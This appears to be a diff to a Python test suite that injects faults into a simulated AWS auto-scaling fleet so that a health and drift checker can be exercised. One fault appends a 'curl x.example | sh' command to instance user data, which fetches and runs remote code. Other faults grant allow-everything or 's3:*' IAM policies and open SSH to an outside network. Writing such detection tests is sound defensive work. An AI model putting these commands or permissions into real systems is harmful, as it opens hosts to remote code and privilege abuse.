@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import base64
 import json
+import re
 from collections.abc import Callable, Iterator, Mapping
 from dataclasses import dataclass, replace
 from datetime import UTC, datetime, timedelta
@@ -27,6 +29,7 @@ from tests.fleet.fleet import (
     TEMPLATE,
     TERMINATE,
     TERMINATION,
+    VALET_POLICY_ARN,
 )
 from tests.fleet.healthy import DEFAULT_INPUTS, IMAGE, VPC, HealthyFleet, Inputs, doctor_finding, worker
 
@@ -124,10 +127,11 @@ def restore_profile(fleet: HealthyFleet) -> None:
 
 
 def failed_launch(fleet: HealthyFleet) -> None:
-    """A launch that failed because of the missing instance profile, which exists again."""
-    fleet.drop_profile()
+    """A launch that failed because of the missing key pair, which exists again."""
+    ec2 = fleet.client("ec2")
+    ec2.delete_key_pair(KeyName="valet-worker")
     fleet.update(DesiredCapacity=3)
-    restore_profile(fleet)
+    ec2.import_key_pair(KeyName="valet-worker", PublicKeyMaterial=PUBLIC_KEY.encode())
 
 
 def no_instances(fleet: HealthyFleet) -> None:
@@ -157,6 +161,7 @@ def silent_drains(there: Registry) -> Registry:
 
 def pending_launch(fleet: HealthyFleet) -> None:
     """An instance whose worker does not start."""
+    agent_conf("LAUNCH_HOOK", LAUNCH)(fleet)
     put_launch_hook(fleet)
     fleet.update(DesiredCapacity=3)
 
@@ -193,6 +198,14 @@ def failed_refresh(fleet: HealthyFleet) -> None:
     )
     fleet.set_speed(1)
     aws.set_instance_protection(AutoScalingGroupName=GROUP, InstanceIds=fleet.in_service(), ProtectedFromScaleIn=False)
+
+
+def stopped_refresh(fleet: HealthyFleet) -> None:
+    """A refresh under way in a group that may not terminate instances."""
+    shorten_warmup(fleet)
+    aws = fleet.client("autoscaling")
+    aws.suspend_processes(AutoScalingGroupName=GROUP, ScalingProcesses=["Terminate"])
+    aws.start_instance_refresh(AutoScalingGroupName=GROUP)
 
 
 def detach_profile(fleet: HealthyFleet) -> None:
@@ -239,8 +252,8 @@ def agent_conf(key: str, value: str) -> Callable[[HealthyFleet], Any]:
     """Agents with another value in agent.conf; without the key if the value is empty."""
 
     def change(text: str) -> str:
-        lines = [line for line in text.splitlines() if not line.startswith(f"{key}=")]
-        return "\n".join([*lines, *([f"{key}={value}"] if value else [])])
+        line = f"{key}={value}\n" if value else ""
+        return re.sub(rf"^{key}=.*\n", lambda _: line, text, flags=re.MULTILINE)
 
     return lambda fleet: fleet.relaunch_with_agent_conf(change)
 
@@ -346,6 +359,13 @@ def _templates() -> Iterator[Fault]:
     yield Fault(
         "the pinned template version was deleted", "template-exists", delete_version, remaining=REPLACE, slow=True
     )
+    yield Fault(
+        "the launch template was deleted",
+        "template-exists",
+        lambda f: f.client("ec2").delete_launch_template(LaunchTemplateName=TEMPLATE),
+        remaining=REPLACE,
+        slow=True,
+    )
     yield template(
         "instances accept IMDSv1",
         "template-metadata",
@@ -398,6 +418,12 @@ def _group() -> Iterator[Fault]:
     yield Fault("the group uses a subnet that is gone", "group-subnets", delete_subnet, slow=True)
     yield group("all subnets lie in one zone", "group-subnets", VPCZoneIdentifier="subnet-010ca1c10d00000a1")
     yield Fault("the group launches from another template", "group-template", another_template, slow=True)
+    yield Fault(
+        "the template was deleted and made anew under its name",
+        "group-template",
+        lambda f: f.recreate_template(),
+        remaining=REPLACE,
+    )
     yield Fault("the group's version is $Latest", "group-version", lambda f: f.set_version("$Latest"), playbook=True)
     yield Fault(
         "AZRebalance runs",
@@ -444,6 +470,15 @@ def _group() -> Iterator[Fault]:
         "refresh",
         failed_refresh,
         Inputs(SHORT_WARMUP),
+        finish=lambda f: f.finish_refresh(),
+        slow=True,
+    )
+    yield Fault(
+        "a refresh cannot go on, as nothing may be terminated",
+        "refresh",
+        stopped_refresh,
+        Inputs({**SHORT_WARMUP, "fleet_suspended_processes": ["AZRebalance", "Terminate"]}),
+        remedy_variables={"fleet_suspended_processes": ["AZRebalance"]},
         finish=lambda f: f.finish_refresh(),
         slow=True,
     )
@@ -550,6 +585,22 @@ def _identity() -> Iterator[Fault]:
     )
     yield Fault("an instance has lost its profile", "instances-profile", detach_profile)
 
+    def made_anew(fleet: HealthyFleet) -> None:
+        shorten_warmup(fleet)
+        fleet.drop_profile()
+        restore_profile(fleet)
+        tags = [{"Key": "Project", "Value": "wekruit"}]
+        fleet.client("iam").tag_instance_profile(InstanceProfileName=PROFILE, Tags=tags)
+
+    yield Fault(
+        "the instance profile was deleted and made anew under its name",
+        "instances-profile",
+        made_anew,
+        Inputs(SHORT_WARMUP),
+        finish=lambda f: f.finish_refresh(),
+        slow=True,
+    )
+
 
 def _ports() -> Iterator[Fault]:
     everyone, everyone6 = {"IpRanges": [{"CidrIp": "0.0.0.0/0"}]}, {"Ipv6Ranges": [{"CidrIpv6": "::/0"}]}
@@ -593,6 +644,25 @@ def _agents() -> Iterator[Fault]:
     yield conf("agents use another region", "agent-region", "REGION", "eu-west-1")
     yield conf("agents have another drain policy", "agent-drain-policy", "DRAIN_POLICY", "sigterm")
     yield conf("workers boot without the guard", "agent-worker-guard", "WORKER_GUARD", "off")
+    yield conf("agents complete a launch hook that there is not", "agent-launch-hook", "LAUNCH_HOOK", LAUNCH)
+    yield Fault(
+        "no agent completes the launch hook",
+        "agent-launch-hook",
+        put_launch_hook,
+        with_variables(fleet_launch_hook=True),
+        remaining=REPLACE,
+        slow=True,
+    )
+
+    def run_more(fleet: HealthyFleet) -> None:
+        def append(data: dict[str, Any]) -> None:
+            text = base64.b64decode(data["UserData"]) + b"runcmd: [curl x.example | sh]\n"
+            data["UserData"] = base64.b64encode(text).decode()
+
+        fleet.relaunch_with(append)
+
+    yield Fault("the user data also runs a command", "user-data", run_more, remaining=REPLACE)
+    yield conf("agents shout", "drift-launch-template", "LOG_GROUP", "/somebody/else")
 
 
 def _environment() -> Iterator[Fault]:
@@ -813,6 +883,116 @@ def _hosts() -> Iterator[Fault]:
         )
 
 
+def _drift() -> Iterator[Fault]:
+    """What no check looks at, and site.yml would change."""
+
+    def drift(description: str, section: str, apply: Callable[[HealthyFleet], Any], **more: Any) -> Fault:
+        return Fault(description, f"drift-{section}", apply, **more)
+
+    def iam(fleet: HealthyFleet) -> Any:
+        return fleet.client("iam")
+
+    def template(description: str, change: Callable[[dict[str, Any]], Any], **more: Any) -> Fault:
+        return drift(description, "launch-template", lambda f: f.relaunch_with(change), remaining=REPLACE, **more)
+
+    other = {"Key": "Project", "Value": "other"}
+    group_tag = {**other, "ResourceId": GROUP, "ResourceType": "auto-scaling-group", "PropagateAtLaunch": True}
+    repository = {"repositoryName": REPOSITORY}
+    yield drift(
+        "the repository's images cannot be overwritten",
+        "foundation",
+        lambda f: f.client("ecr").put_image_tag_mutability(**repository, imageTagMutability="IMMUTABLE"),
+    )
+    yield drift(
+        "the repository's images are not scanned",
+        "foundation",
+        lambda f: f.client("ecr").put_image_scanning_configuration(
+            **repository, imageScanningConfiguration={"scanOnPush": False}
+        ),
+        slow=True,
+    )
+    yield drift(
+        "the repository keeps every image",
+        "foundation",
+        lambda f: f.client("ecr").delete_lifecycle_policy(**repository),
+        slow=True,
+    )
+    yield drift(
+        "the role's tag has another value",
+        "iam",
+        lambda f: iam(f).tag_role(RoleName=ROLE, Tags=[other]),
+        severity="warning",
+        slow=True,
+    )
+    yield drift(
+        "the role's policy allows an action more",
+        "iam",
+        lambda f: f.change_role_policy(
+            lambda statements: statements.append({"Effect": "Allow", "Action": "s3:*", "Resource": "*"})
+        ),
+        playbook=True,
+    )
+    yield drift(
+        "a port is open to another network",
+        "security-group",
+        open_to({"IpRanges": [{"CidrIp": "198.51.100.0/24"}]}, ports=(22, 22)),
+    )
+    yield drift(
+        "the security group's tag has another value",
+        "security-group",
+        lambda f: f.tag(f.security_group()["GroupId"], "Project", "other"),
+        severity="warning",
+        slow=True,
+    )
+    yield template("instances are larger", lambda data: data.update(InstanceType="t3.large"))
+    yield template(
+        "the volume is smaller", lambda data: data["BlockDeviceMappings"][0]["Ebs"].update(VolumeSize=30), slow=True
+    )
+    yield template(
+        "the metadata service is farther away",
+        lambda data: data["MetadataOptions"].update(HttpPutResponseHopLimit=64),
+        slow=True,
+    )
+    yield template("instances have a foreign parameter", lambda data: data.update(EbsOptimized=True), slow=True)
+    yield template(
+        "instances have no public address",
+        lambda data: data["NetworkInterfaces"][0].update(AssociatePublicIpAddress=False),
+        slow=True,
+    )
+    yield template(
+        "agents have another drain limit",
+        lambda data: data.update(
+            UserData=base64.b64encode(
+                base64.b64decode(data["UserData"]).replace(b"DRAIN_LIMIT_SECONDS=2100", b"DRAIN_LIMIT_SECONDS=60")
+            ).decode()
+        ),
+        slow=True,
+    )
+    yield drift(
+        "the group's tag has another value",
+        "autoscaling-group",
+        lambda f: f.client("autoscaling").create_or_update_tags(Tags=[group_tag]),
+        severity="warning",
+    )
+    yield drift(
+        "somebody made another version of the template",
+        "launch-template",
+        lambda f: f.version(lambda data: data.update(InstanceType="m5.24xlarge"), default=False),
+        remaining=REPLACE,
+        slow=True,
+    )
+
+    def valet_may_do_anything(fleet: HealthyFleet) -> None:
+        iam(fleet).create_policy_version(
+            PolicyArn=VALET_POLICY_ARN, PolicyDocument=json.dumps(ANYTHING), SetAsDefault=True
+        )
+
+    yield drift("VALET's policy allows everything", "valet", valet_may_do_anything)
+    yield drift(
+        "VALET's policy was deleted", "valet", lambda f: iam(f).delete_policy(PolicyArn=VALET_POLICY_ARN), slow=True
+    )
+
+
 FAULTS: tuple[Fault, ...] = tuple(
     fault
     for part in (
@@ -828,6 +1008,7 @@ FAULTS: tuple[Fault, ...] = tuple(
         _instances,
         _registry,
         _hosts,
+        _drift,
     )
     for fault in part()
 )
